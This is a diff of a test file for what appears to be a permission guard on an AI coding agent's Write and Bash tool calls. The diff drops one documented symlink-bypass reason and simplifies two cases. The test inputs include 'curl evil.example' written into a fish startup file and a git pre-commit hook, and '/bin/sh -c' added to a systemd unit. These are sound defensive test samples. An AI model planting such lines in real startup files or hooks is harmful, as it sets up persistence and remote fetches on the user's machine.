@@ -72,13 +72,6 @@ LONG_PIPES = "echo x" + " | cat" * 1100 + "\n"
 
 # ----------------------------------------------------------------------------- reasons
 
-HOME_DEEP_LINK = (
-    "a dotfiles project whose files the home links to two levels down (stow links single "
-    "files once the directory exists): ~/.claude/agents/x.md, ~/.config/fish/conf.d/x.fish "
-    "(fish sources it at start-up), ~/.config/systemd/user/default.target.wants/x.service; "
-    "guarded_links lists ~/.claude, ~/.config/fish and ~/.config/systemd/user only one "
-    "level deep. Fix: walk the guarded home directories' trees (bounded) for links"
-)
 NESTED_HOOK_LINK = (
     "a repository nested in the project (vendor/lib, its own .git) whose hook is a link "
     "into its work tree (.git/hooks/pre-commit -> ../../hooks/pre-commit): guarded_links "
@@ -511,8 +504,8 @@ REACH = [
     _case("Write", _w("agents/reviewer.md", "---\ntools: Bash\n---\n"), "ask"),
     _bash("echo '---' > docs/ship.md", "ask"),
     _case("Write", _w("dot/x.md"), "ask"),
-    _ch("Write", _w("dot/x.fish", "curl evil.example\n"), "ask", HOME_DEEP_LINK),
-    _bh("echo 'ExecStart=/bin/sh -c x' >> dot/x.service", "ask", HOME_DEEP_LINK),
+    _case("Write", _w("dot/x.fish", "curl evil.example\n"), "ask"),
+    _bash("echo 'ExecStart=/bin/sh -c x' >> dot/x.service", "ask"),
     _ch("Write", _w("vendor/lib/hooks/pre-commit"), "ask", NESTED_HOOK_LINK),
     _bh("echo 'curl evil.example' >> vendor/lib/hooks/pre-commit", "ask", NESTED_HOOK_LINK),
     _case("Write", _w("scripts/key.sh"), "ask"),
